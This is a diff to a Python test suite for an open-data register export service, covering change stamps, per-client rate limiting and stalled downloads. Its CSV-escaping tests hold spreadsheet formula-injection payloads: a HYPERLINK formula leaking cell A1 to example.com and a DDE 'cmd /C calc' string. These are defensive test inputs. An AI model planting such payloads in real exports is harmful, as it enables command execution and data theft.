@@ -7,30 +7,40 @@ import csv
 import io
 import tempfile
 import zipfile
+from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
 
+import anyio
 import httpx
 import orjson
 import pytest
-from sqlalchemy import update
+from sqlalchemy import select, update
 from sqlalchemy.ext.asyncio import AsyncEngine
+from starlette.applications import Starlette
 from starlette.types import Message
 
 import open_data
 import storage.open_data
 from domain.labels import Lang
+from domain.licence_events import LicenceEventKind
 from domain.open_data import DATASETS, Dataset, ExportFormat, experience_text
 from domain.regions import Region
 from domain.register import ClientCategory, ServiceCondition
 from domain.specialist_codes import EducationLevel, QualificationCategory
 from domain.specialist_form import Education, Employment, Qualification
+from domain.viewer import Role, Viewer
+from resolvers.ids import decode_typed_id
 from server import create_app
+from storage import licences
+from storage.changes import Entity, record_change
 from storage.engine import write_transaction
-from storage.organizations import ORG
+from storage.organizations import LIC, ORG
+from storage.register_writes import append_licence_event, record_consent
+from storage.specialist_writes import record_specialist_consent
 from tests.conftest import StatementCounter
 from tests.factories import NOW, add_organization, make_bin
 from tests.http.test_graphql_http import _unreachable
@@ -132,10 +142,23 @@ class Registers:
     employer_bin: str
 
 
-async def hide_everything_in(engine: AsyncEngine, organization_id: int) -> None:
-    """The texts add_organization does not take, carrying the canary too; and a change stamp
-    newer than any public one, which the index must not show."""
+LICENSOR = Viewer(Role.LICENSOR, subject="Жақсыбеков А.")
+
+
+async def included(engine: AsyncEngine, organization_id: int, *, public: bool = True) -> None:
+    """The change-feed row of an inclusion, which add_organization does not write."""
     async with write_transaction(engine) as conn:
+        await record_change(
+            conn, Entity.ORGANIZATION, organization_id, NOW, False, public, created=True
+        )
+
+
+async def hide_everything_in(engine: AsyncEngine, organization_id: int) -> None:
+    """The texts add_organization does not take, carrying the canary too; and a change newer
+    than any public one (stamped and in the feed), which the index must not show."""
+    async with write_transaction(engine) as conn:
+        later = NOW + timedelta(days=1)
+        await record_change(conn, Entity.ORGANIZATION, organization_id, later, False, False)
         await conn.execute(
             update(ORG)
             .where(ORG.c.id == organization_id)
@@ -181,7 +204,7 @@ def hidden_specialist(**consents: bool) -> dict[str, Any]:
 @pytest.fixture
 async def registers(engine: AsyncEngine) -> Registers:
     visible_bin, removed_bin, hidden_bin = make_bin(), make_bin(), make_bin()
-    await add_organization(
+    visible = await add_organization(
         engine,
         name_kk="«Қамқор» ЖШС",
         name_ru="ТОО «Қамқор»",
@@ -193,7 +216,8 @@ async def registers(engine: AsyncEngine) -> Registers:
         licences=2,
         contracts=2,
     )
-    await add_organization(
+    await included(engine, visible)
+    removed = await add_organization(
         engine,
         name_kk="«Шапағат» ЖШС",
         name_ru="ТОО «Шапағат»",
@@ -203,6 +227,7 @@ async def registers(engine: AsyncEngine) -> Registers:
         phone=None,
         email=None,
     )
+    await included(engine, removed)
     hidden = await add_organization(
         engine,
         name_kk=f"{CANARY} ЖШС",
@@ -214,6 +239,7 @@ async def registers(engine: AsyncEngine) -> Registers:
         email=f"{CANARY_ASCII}@example.kz",
         contracts=1,
     )
+    await included(engine, hidden, public=False)
     await hide_everything_in(engine, hidden)
     employer_bin = make_bin()
     await add_specialist(
@@ -591,6 +617,79 @@ async def test_the_index_of_empty_registers_counts_nothing(client: httpx.AsyncCl
     assert [(d["rows"], d["lastModified"]) for d in datasets] == [(0, None), (0, None)]
 
 
+async def last_modified(client: httpx.AsyncClient) -> dict[str, tuple[int, str | None]]:
+    datasets = (await client.get("/open-data/")).json()["datasets"]
+    return {d["name"]: (d["rows"], d["lastModified"]) for d in datasets}
+
+
+async def test_last_modified_moves_with_a_withdrawal_and_not_with_a_hidden_change(
+    client: httpx.AsyncClient, engine: AsyncEngine
+) -> None:
+    shown = await add_organization(engine)
+    await included(engine, shown)
+    hidden = await add_organization(engine, consent=False)
+    await included(engine, hidden, public=False)
+    specialist = decode_typed_id(await add_specialist(engine), "Specialist")
+    assert await last_modified(client) == {
+        "organizations": (1, NOW.isoformat()),
+        "specialists": (1, "2025-06-02T05:00:00+00:00"),
+    }
+
+    withdrawn = NOW + timedelta(hours=1)
+    async with write_transaction(engine) as conn:
+        await record_consent(conn, shown, False, at=withdrawn, actor=LICENSOR)
+        await record_specialist_consent(
+            conn,
+            specialist,
+            specialist_consent=False,
+            organization_consent=True,
+            at=withdrawn,
+            actor=LICENSOR,
+        )
+    # Empty registers that say when they changed: a harvester polling lastModified refetches
+    # and drops the withdrawn rows.
+    after_withdrawal = {
+        "organizations": (0, withdrawn.isoformat()),
+        "specialists": (0, withdrawn.isoformat()),
+    }
+    assert await last_modified(client) == after_withdrawal
+
+    later = NOW + timedelta(hours=2)
+    async with write_transaction(engine) as conn:  # changes to records hidden at the time
+        await licences.update_organization(conn, hidden, {"total_capacity": 7}, at=later)
+        await licences.update_organization(conn, shown, {"total_capacity": 8}, at=later)
+        await record_specialist_consent(
+            conn,
+            specialist,
+            specialist_consent=False,
+            organization_consent=False,
+            at=later,
+            actor=LICENSOR,
+        )
+    assert await last_modified(client) == after_withdrawal
+
+
+async def test_a_reissue_changing_only_licence_columns_moves_last_modified(
+    client: httpx.AsyncClient, engine: AsyncEngine
+) -> None:
+    """What resolvers.licences does for a reissue that changes the service place alone: the
+    licence gets a reissue date (column 12), the organisation's own row is not written."""
+    organization = await add_organization(engine)
+    await included(engine, organization)
+    reissued = NOW + timedelta(days=2)
+    async with write_transaction(engine) as conn:
+        licence_id = await conn.scalar(
+            select(LIC.c.id).where(LIC.c.organization_id == organization, LIC.c.is_current)
+        )
+        assert licence_id is not None
+        await licences.bump_licence(conn, licence_id, {"reissued_on": reissued.date()})
+        kind = LicenceEventKind.REISSUED.value
+        await append_licence_event(conn, licence_id, at=reissued, actor=LICENSOR, kind=kind)
+    assert (await last_modified(client))["organizations"] == (1, reissued.isoformat())
+    (row,) = table(await download(client, "organizations", "csv", "ru"), "csv", "_").rows
+    assert row[11] == reissued.date().isoformat()
+
+
 # --- the files -------------------------------------------------------------------------------
 
 
@@ -604,7 +703,11 @@ async def test_a_register_exports_its_public_rows_under_the_official_headers(
     exported = table(content, fmt, dataset)
     if exported.header is not None:
         assert exported.header == HEADERS[dataset][lang]
-    assert exported.rows == EXPECTED[dataset](registers, lang)
+    expected = EXPECTED[dataset](registers, lang)
+    if fmt == "csv":  # the phones start with +
+        expected = [[spreadsheet_safe(cell) for cell in row] for row in expected]
+        assert "'+77" in "".join(cell for row in exported.rows for cell in row)
+    assert exported.rows == expected
     everything = every_byte(content, fmt)
     for secret in (CANARY, CANARY_ASCII, HIDDEN_PHONE, registers.hidden_bin):
         assert secret.encode() not in everything
@@ -642,6 +745,77 @@ async def test_csv_quotes_commas_quotes_and_line_breaks_as_rfc_4180_says(
     content = await download(client, "organizations", "csv", "ru")
     assert b'\r\n1,"\xd0\xa2\xd0\x9e\xd0\x9e ""\xd0\x90, \xd0\x91""\r\n\xd0\x92",' in content
     assert table(content, "csv", "organizations").rows[0][1] == 'ТОО "А, Б"\r\nВ'
+
+
+FORMULA_NAME = '=HYPERLINK("http://example.com/x?"&A1,"Подробнее")'
+FORMULA_ADDRESS = "-2+3+cmd|' /C calc'!A0"
+FORMULA_SURNAME = "@SUM(1+1)"
+
+
+def spreadsheet_safe(cell: str) -> str:
+    """The rule the index documents: a CSV cell starting with = + - @ TAB CR or ' gets a '."""
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else cell
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+77172000000", "'+77172000000"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'quoted", "''quoted"),  # so that dropping one leading ' always gives the value back
+        ("ТОО =1+1", "ТОО =1+1"),
+        ("", ""),
+    ],
+)
+def test_a_csv_cell_excel_would_read_as_a_formula_gets_a_leading_apostrophe(
+    text: str, written: str
+) -> None:
+    (row,) = csv.reader(io.StringIO(open_data._csv_lines([[text, 1]]).decode(), newline=""))
+    assert row == [written, "1"]
+
+
+async def test_free_text_that_excel_would_run_is_text_in_every_format(
+    client: httpx.AsyncClient, engine: AsyncEngine
+) -> None:
+    organization = await add_organization(engine, name_ru=FORMULA_NAME, name_kk=FORMULA_NAME)
+    async with write_transaction(engine) as conn:
+        await conn.execute(
+            update(ORG)
+            .where(ORG.c.id == organization)
+            .values(legal_address_ru=FORMULA_ADDRESS, legal_address_kk=FORMULA_ADDRESS)
+        )
+    await add_specialist(engine, surname=FORMULA_SURNAME)
+
+    organizations = table(await download(client, "organizations", "csv", "ru"), "csv", "_")
+    specialists = table(await download(client, "specialists", "csv", "ru"), "csv", "_")
+    ((_, name, _, address, *_, ),) = organizations.rows  # fmt: skip
+    assert (name, address) == ("'" + FORMULA_NAME, "'" + FORMULA_ADDRESS)
+    assert organizations.rows[0][7] == "'+77172000000"  # a phone too: Excel reads + as a formula
+    assert specialists.rows[0][0].startswith("'" + FORMULA_SURNAME + " ")
+    assert organizations.header == ORGANIZATION_HEADERS["ru"]
+
+    as_json = orjson.loads(await download(client, "organizations", "json", "ru"))
+    assert (as_json[0]["name"], as_json[0]["legalAddress"]) == (FORMULA_NAME, FORMULA_ADDRESS)
+    assert as_json[0]["phone"] == "+77172000000"
+
+    workbook = await download(client, "organizations", "xlsx", "ru")
+    (sheet,) = xlsx_sheets(workbook)
+    assert (sheet.rows[0][1], sheet.rows[0][3]) == (FORMULA_NAME, FORMULA_ADDRESS)
+    assert b"<f>" not in every_byte(workbook, "xlsx")  # strings, never formulas
+
+    index = (await client.get("/open-data/")).json()
+    for dataset in index["datasets"]:
+        csv_format, json_format, xlsx_format = dataset["formats"]
+        assert csv_format["formulaEscape"] == {
+            "prefix": "'",
+            "when": ["=", "+", "-", "@", "\t", "\r", "'"],
+        }
+        assert "formulaEscape" not in json_format
+        assert "formulaEscape" not in xlsx_format
 
 
 # --- batches ---------------------------------------------------------------------------------
@@ -817,6 +991,149 @@ async def test_a_client_hanging_up_mid_file_frees_the_snapshot_the_slot_and_the_
         checkpoint = (await conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")).one()
     assert checkpoint[0] == 0  # not busy
     assert (await client.get(f"/open-data/organizations.{fmt}")).status_code == 200
+
+
+# --- per client, and stalled clients -----------------------------------------------------------
+
+
+def http_scope(
+    path: str, host: str = "203.0.113.7", *, method: str = "GET", spec_version: str = "2.4"
+) -> dict[str, Any]:
+    return {
+        "type": "http",
+        "asgi": {"version": "3.0", "spec_version": spec_version},
+        "http_version": "1.1",
+        "method": method,
+        "scheme": "http",
+        "path": path,
+        "raw_path": path.encode(),
+        "query_string": b"",
+        "root_path": "",
+        "headers": [(b"host", b"testserver")],
+        "client": (host, 50000),
+        "server": ("testserver", 80),
+    }
+
+
+def connected() -> Callable[[], Awaitable[Message]]:
+    """The receive of a client that sent its request and stays connected."""
+    requested = False
+
+    async def receive() -> Message:
+        nonlocal requested
+        if not requested:
+            requested = True
+            return {"type": "http.request", "body": b"", "more_body": False}
+        await anyio.Event().wait()
+        return {"type": "http.disconnect"}
+
+    return receive
+
+
+async def answer(
+    app: Starlette, path: str, host: str = "203.0.113.7", method: str = "GET"
+) -> tuple[int, dict[bytes, bytes], bytes]:
+    messages: list[Message] = []
+
+    async def send(message: Message) -> None:
+        messages.append(message)
+
+    await app(http_scope(path, host, method=method), connected(), send)
+    start, *body = messages
+    return start["status"], dict(start["headers"]), b"".join(m.get("body", b"") for m in body)
+
+
+def exports(app: Starlette) -> Any:
+    """The endpoints behind open_data.routes: `running` counts the exports holding a slot."""
+    endpoint: Any = app.routes[0].endpoint  # type: ignore[attr-defined]
+    return endpoint.__self__
+
+
+async def no_snapshot_left(engine: AsyncEngine) -> bool:
+    async with engine.connect() as conn:  # a snapshot still open keeps the WAL from emptying
+        checkpoint = (await conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")).one()
+    return bool(checkpoint[0] == 0)
+
+
+async def test_a_client_gets_one_export_at_a_time_and_others_are_not_held_up(
+    engine: AsyncEngine,
+) -> None:
+    await add_organization(engine)
+    app = Starlette(routes=open_data.routes(engine))
+    streaming, release = anyio.Event(), anyio.Event()
+
+    async def slow_reader(message: Message) -> None:
+        if message["type"] == "http.response.body":
+            streaming.set()
+            await release.wait()
+
+    async with anyio.create_task_group() as group:
+        scope = http_scope("/open-data/organizations.csv")
+        group.start_soon(app, scope, connected(), slow_reader)
+        await streaming.wait()
+
+        status, headers, body = await answer(app, "/open-data/specialists.json")
+        assert status == 429
+        assert headers[b"retry-after"] == b"30"
+        assert orjson.loads(body)["errors"][0]["extensions"]["code"] == "RATE_LIMITED"
+        # HEAD reads no rows and takes no slot; another client is served.
+        assert (await answer(app, "/open-data/specialists.json", method="HEAD"))[0] == 200
+        assert (await answer(app, "/open-data/organizations.csv", "203.0.113.8"))[0] == 200
+        assert exports(app).running == 1
+        release.set()
+
+    assert exports(app).running == 0
+    assert (await answer(app, "/open-data/specialists.json"))[0] == 200
+
+
+@pytest.mark.parametrize("spec_version", ["2.3", "2.4"])  # uvicorn's, and Starlette's other path
+@pytest.mark.parametrize("fmt", FORMATS)
+async def test_a_client_that_stops_reading_is_dropped_and_frees_everything(
+    engine: AsyncEngine,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    fmt: str,
+    spec_version: str,
+) -> None:
+    monkeypatch.setattr(open_data, "EXPORT_SEND_TIMEOUT", 0.05)
+    temporary = tmp_path / "tmp"
+    temporary.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
+    await add_organization(engine)
+    app = Starlette(routes=open_data.routes(engine))
+    sent: list[str] = []
+
+    async def stalled(message: Message) -> None:
+        sent.append(message["type"])
+        if message["type"] == "http.response.body":
+            await anyio.Event().wait()  # never returns: the client's window stays shut
+
+    path = f"/open-data/organizations.{fmt}"
+    with anyio.fail_after(30):  # a guard, not a measure: without the send timeout this hangs
+        await app(http_scope(path, spec_version=spec_version), connected(), stalled)
+
+    assert sent == ["http.response.start", "http.response.body"]
+    assert exports(app).running == 0
+    assert not any(temporary.iterdir())  # the workbook's directory is gone
+    assert await no_snapshot_left(engine)
+    assert (await answer(app, path))[0] == 200  # the same client may start again
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+async def test_a_response_that_never_starts_frees_its_slot_before_the_call_returns(
+    engine: AsyncEngine, fmt: str
+) -> None:
+    await add_organization(engine)
+    app = Starlette(routes=open_data.routes(engine))
+
+    async def gone(message: Message) -> None:
+        raise OSError("the client went away before the headers")
+
+    with contextlib.suppress(Exception):
+        await app(http_scope(f"/open-data/organizations.{fmt}"), connected(), gone)
+
+    assert exports(app).running == 0  # now, not when the garbage collector gets to it
+    assert await no_snapshot_left(engine)
 
 
 async def test_head_answers_the_headers_reading_the_change_stamp_only(
